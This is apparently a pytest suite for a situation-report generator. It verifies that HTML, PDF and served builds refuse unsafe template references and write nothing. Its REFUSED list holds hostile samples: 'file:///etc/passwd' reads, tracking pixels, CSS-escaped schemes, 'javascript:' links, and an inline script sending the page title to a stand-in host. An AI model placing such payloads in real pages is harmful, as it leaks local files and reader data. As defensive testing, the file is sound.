"""One policy for what a report may refer to, in every format: the HTML, the PDF and
`sitrep serve` refuse the same references, each at the template file and line that wrote it,
and nothing is written. Attachments: only what config.yaml lists; none from the store in a
public edition."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from pypdf import PdfReader

from support import (EXAMPLE_WEEK, copy_workspace, output_digests, use_templates_folder, without_progress,
    write)
from sitrep.commands import serve
from sitrep.errors import TemplateProblem
from sitrep.render.references import ATTACHMENT, LINK, RESOURCE, find_references

WEEK = EXAMPLE_WEEK
SECTION = "templates/sections/outlook.html"
HTML_OUT = f"output/{WEEK}/fallujah-sitrep-{WEEK}.html"
PDF_OUT = f"output/{WEEK}/fallujah-sitrep-{WEEK}.pdf"


@pytest.fixture
def ws(example_html_built: Path, tmp_path: Path, monkeypatch) -> Path:
    """The example workspace with a templates folder, and a good report already built (its
    HTML), a copy of the test's own (the current folder)."""
    workspace = copy_workspace(example_html_built, tmp_path / "ws")
    monkeypatch.chdir(workspace)
    return workspace


def add_config(ws: Path, text: str) -> None:
    config = ws / "config.yaml"
    config.write_text(config.read_text(encoding="utf-8") + text, encoding="utf-8")



def section(markup: str) -> str:
    """A section template whose line 2 holds `markup`."""
    return f'<section class="outlook">\n{markup}\n</section>\n'


REFUSED = {
    "img-file": '<img src="file:///etc/passwd" alt="">',
    "img-file-localhost": '<img src="file://localhost/etc/hostname" alt="">',
    "tracking-pixel-http": '<img src="http://tracker.example/p.gif?week={{ report.week }}" alt="">',
    "tracking-pixel-https": '<img src="https://tracker.example/p.gif" alt="">',
    "protocol-relative": '<img src="//tracker.example/p.gif" alt="">',
    "relative-escape": '<img src="../../../../../../../../etc/hostname" alt="">',
    "absolute-path": '<img src="/etc/hostname" alt="">',
    "srcset-http": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://t.example/a.png 2x" alt="">',
    "stylesheet-http": '<link rel="stylesheet" href="https://cdn.example/x.css">',
    "style-attribute-url": '<div style="background: url(\'https://t.example/bg.png\')"></div>',
    "style-import": '<style>@import "https://t.example/x.css";</style>',
    "css-escaped-scheme": '<style>.x { background: url(\\66 ile:///etc/passwd) }</style>',
    "iframe-http": '<iframe src="https://t.example/"></iframe>',
    "object-file": '<object data="file:///etc/passwd"></object>',
    "script-src": '<script src="https://t.example/x.js"></script>',
    "inline-script": "<script>fetch('https://t.example/?' + document.title)</script>",
    "event-handler": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="fetch(1)" alt="">',
    "javascript-link": '<a href="javascript:alert(1)">x</a>',
    "data-link": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "base-element": '<base href="https://t.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://t.example/">',
    "attachment-not-listed": '<a rel="attachment" href="{{ workspace }}/annex.txt">annex</a>',
    "attachment-outside": '<link rel="attachment" href="file:///etc/passwd">',
    "store-file-public": '<a rel="attachment" href="{{ workspace }}/facts/sources.yaml">x</a>',
    "cache-file": '<img src="{{ workspace }}/.sitrep-cache/CACHEDIR.TAG" alt="">',
}


@pytest.mark.parametrize("fmt", ["html", "pdf"])
@pytest.mark.parametrize("markup", list(REFUSED.values()), ids=list(REFUSED))
def test_every_format_refuses_the_reference_at_its_template_line_and_writes_nothing(ws, sitrep_cli, markup, fmt):
    write(ws / "annex.txt", "an annex\n")
    write(ws / SECTION, section(markup))
    before = output_digests(ws / "output")
    result = sitrep_cli("build", "--week", WEEK, "--force", "--format", fmt)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    errors = [line for line in result.stderr.splitlines() if ": error: " in line]
    assert errors and all(line.startswith(f"{SECTION}:2: error: ") for line in errors), result.stderr
    assert "(expected " in errors[0]
    assert output_digests(ws / "output") == before


def test_serve_refuses_the_same_references_as_the_build(ws, sitrep_cli):
    markup = "\n".join([REFUSED["img-file"], REFUSED["tracking-pixel-http"], REFUSED["style-import"],
                        REFUSED["attachment-not-listed"]])
    write(ws / SECTION, section(markup))
    built = sitrep_cli("build", "--week", WEEK, "--force")
    assert built.exit_code == 1
    from_build = sorted(line for line in built.stderr.splitlines() if ": error: " in line)
    assert [line.split(": error:")[0] for line in from_build] == [f"{SECTION}:{n}" for n in (2, 3, 4, 5)]
    for render in (lambda: serve.render_report("config.yaml", WEEK),
                   lambda: serve.render_report_pdf("config.yaml", WEEK)):
        with pytest.raises(TemplateProblem) as caught:
            render()
        # The served page names workspace files by its own URLs ('/workspace/annex.txt'): the
        # same refusals at the same lines, for the same reasons.
        assert sorted(map(without_url, map(str, caught.value.problems))) == sorted(map(without_url, from_build))


def without_url(message: str) -> str:
    return re.sub(r"refers to '[^']*'", "refers to …", message)


def test_the_served_page_shows_the_refusal_instead_of_the_report(ws):
    write(ws / SECTION, section(REFUSED["tracking-pixel-https"]))
    server = serve.ReportServer("config.yaml", week=WEEK, port=0, log=lambda line: None)
    try:
        page = server.page
    finally:
        server.close()
    assert page.status == 500
    assert f"{SECTION}:2: error: the report refers to" in page.body
    assert "<img src=\"https://tracker.example" not in page.body


def test_what_a_report_may_refer_to_still_builds(ws, sitrep_cli):
    (ws / "maps").mkdir()
    write(ws / "maps/style.css", ".map { border: 1px solid #888; background: url(frame.png); }\n")
    write(ws / SECTION, section(
        '<a href="https://reliefweb.int/">web</a> <a href="mailto:desk@example.org">mail</a> '
        '<a href="tel:+9641234">phone</a> <a href="#sources">sources</a> '
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="dot"> '
        '<link rel="stylesheet" href="{{ workspace }}/maps/style.css"> '
        '<img src="{{ assets }}/fonts/OFL.txt" alt="" style="display:none">'))
    for fmt in ("html", "pdf"):
        result = sitrep_cli("build", "--week", WEEK, "--force", "--format", fmt)
        assert result.exit_code == 0, result.output
    assert 'href="https://reliefweb.int/"' in (ws / HTML_OUT).read_text(encoding="utf-8")


def test_a_stylesheet_in_the_workspace_cannot_load_what_the_template_could_not(ws, sitrep_cli):
    write(ws / "styles/evil.css", '@import url("https://t.example/track.css");\n')
    write(ws / SECTION, section('<link rel="stylesheet" href="{{ workspace }}/styles/evil.css">'))
    result = sitrep_cli("build", "--week", WEEK, "--force", "--format", "html")
    assert result.exit_code == 1
    assert without_progress(result.stderr).startswith(f"{SECTION}:2: error: the report refers to '../../styles/evil.css'")
    assert "evil.css loads 'https://t.example/track.css'" in result.stderr


def test_a_workspace_link_that_leads_outside_is_refused(ws, sitrep_cli):
    (ws / "logo.png").symlink_to("/etc/hostname")
    write(ws / SECTION, section('<img src="{{ workspace }}/logo.png" alt="">'))
    result = sitrep_cli("build", "--week", WEEK, "--force", "--format", "html")
    assert result.exit_code == 1
    assert without_progress(result.stderr).startswith(f"{SECTION}:2: error: the report refers to '../../logo.png' (<img src>): "
                                    "it is outside the workspace")


# --- Attachments --------------------------------------------------------------------------------

# WeasyPrint embeds a <link rel=attachment> in the document (an <a rel=attachment> becomes a
# file annotation on the page; both are judged alike).
ATTACH = '<link rel="attachment" href="{{ workspace }}/%s" title="annex">'


def test_a_listed_attachment_is_embedded_in_the_pdf(ws, sitrep_cli):
    write(ws / "annex/figures.csv", "week,trapped\n2016-W26,50000\n")
    add_config(ws, "attachments:\n  - annex/figures.csv\n")
    write(ws / SECTION, section(ATTACH % "annex/figures.csv"))
    result = sitrep_cli("build", "--week", WEEK, "--force", "--format", "pdf")
    assert result.exit_code == 0, result.output
    attachments = PdfReader(ws / PDF_OUT).attachments
    assert list(attachments) == ["figures.csv"]
    assert attachments["figures.csv"][0] == b"week,trapped\n2016-W26,50000\n"


def test_a_store_file_is_never_attached_to_a_public_edition_even_when_listed(ws, sitrep_cli):
    add_config(ws, "attachments:\n  - facts/sources.yaml\n")
    write(ws / SECTION, section(ATTACH % "facts/sources.yaml"))
    public = sitrep_cli("build", "--week", WEEK, "--force", "--format", "pdf")
    assert public.exit_code == 1
    assert without_progress(public.stderr).startswith(f"{SECTION}:2: error: the report refers to '../../facts/sources.yaml' "
                                    "(<link href>): it is a file the report must not refer to")
    internal = sitrep_cli("build", "--week", WEEK, "--force", "--format", "pdf", "--edition", "internal")
    assert internal.exit_code == 0, internal.output
    pdf = ws / f"output/{WEEK}/fallujah-sitrep-{WEEK}-internal.pdf"
    assert "sources.yaml" in PdfReader(pdf).attachments


@pytest.mark.parametrize("listed, message", [
    ("annex/missing.csv", "attachments: 'annex/missing.csv' does not exist"),
    ("../outside.csv", "attachments: '../outside.csv' is outside the workspace"),
    ("facts", "attachments: 'facts' is not a file"),
])
def test_an_attachment_the_config_cannot_use_is_a_config_error_at_its_line(ws, sitrep_cli, listed, message):
    lines = len((ws / "config.yaml").read_text(encoding="utf-8").splitlines())
    add_config(ws, f"attachments:\n  - {listed}\n")
    result = sitrep_cli("check")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"config.yaml:{lines + 2}: error: {message} (expected a file inside the workspace)")


# --- The finder, directly --------------------------------------------------------------------------

def test_find_references_sorts_resources_links_and_attachments():
    html = ('<link rel="stylesheet" href="a.css"><a href="https://x.org">x</a>'
            '<a rel="nofollow attachment" href="b.csv">b</a><img srcset="c.png 1x, d.png 2x">'
            '<style>p { background: url("e.png") } @import \'f.css\';</style><svg><image href="g.png"/></svg>')
    found = [(r.url, r.kind) for r in find_references(html)]
    assert found == [("a.css", RESOURCE), ("https://x.org", LINK), ("b.csv", ATTACHMENT), ("c.png", RESOURCE),
                     ("d.png", RESOURCE), ("e.png", RESOURCE), ("f.css", RESOURCE), ("g.png", RESOURCE)]


# --- CSS: only real references (issue 22) -------------------------------------------------------

@pytest.mark.parametrize("css, loads", [
    ('p { content: "url(file:///x)" }', []),
    ("p { content: 'a\\'url(q)' }", []),
    ("/* url(c) */ p {}", []),
    ("p { background: url/**/(x.png) }", []),  # a name, a comment, a parenthesis: not a url() in CSS
    ('p { background: url( "a.png" ) }', [("a.png", "CSS url()")]),
    ("p { background: url(a\\29 b.png) }", [("a)b.png", "CSS url()")]),
    ("p { background: u\\72l(http://x/) }", [("http://x/", "CSS url()")]),
    ("p { background: U\\52 L(y.png) }", [("y.png", "CSS url()")]),
    ('@import "x.css";', [("x.css", "CSS @import")]),
    ("@import url(y.css) screen;", [("y.css", "CSS @import")]),
    ('@im\\70ort "z.css";', [("z.css", "CSS @import")]),
    ('p { background: image-set("h.png" 1x, url(b.png) 2x) }', [("h.png", "CSS image-set()"), ("b.png", "CSS url()")]),
    ('p { background: -webkit-image-set("w.png" 1x) }', [("w.png", "CSS image-set()")]),
    ('@font-face { src: url(f.woff2) format("woff2"), local("x") }', [("f.woff2", "CSS url()")]),
    ('@font-face { src: src("s.woff2") }', [("s.woff2", "CSS src()")]),
    ("p { background: url(unterminated", [("unterminated", "CSS url()")]),
])
def test_css_loads_are_its_functions_not_its_strings(css, loads):
    from sitrep.render.csstokens import css_loads

    assert [(url, where) for url, where, _ in css_loads(css)] == loads


def test_an_organisation_named_like_a_css_url_builds(ws, sitrep_cli):
    # Its name goes into the CSS of the page footer as a quoted string: text, not a load.
    config = ws / "config.yaml"
    text = config.read_text(encoding="utf-8")
    write(config, text.replace("    en: sitrep example desk (illustrative, not a real organisation)",
                               "    en: 'url(file:///x)'"))
    result = sitrep_cli("build", "--week", WEEK, "--force", "--format", "html")
    assert result.exit_code == 0, result.output
    assert '"url(file:///x)"' in (ws / HTML_OUT).read_text(encoding="utf-8")


@pytest.mark.parametrize("srcset, urls", [
    ("c.png 1x, d.png 2x", ["c.png", "d.png"]),
    ("a.png,b.png", ["a.png,b.png"]),  # a comma inside an address belongs to it
    ("data:image/png;base64,AAA 1x, e.png", ["data:image/png;base64,AAA", "e.png"]),
    ("a.png 1x (,http://t.example/ 2x)", ["a.png"]),  # inside parentheses a comma does not separate
    ("a.png 1x ((x), http://t.example/", ["a.png", "http://t.example/"]),  # parentheses do not nest
])
def test_srcset_addresses_are_read_as_the_html_standard_reads_them(srcset, urls):
    assert [r.url for r in find_references(f'<img alt="" srcset="{srcset}">')] == urls
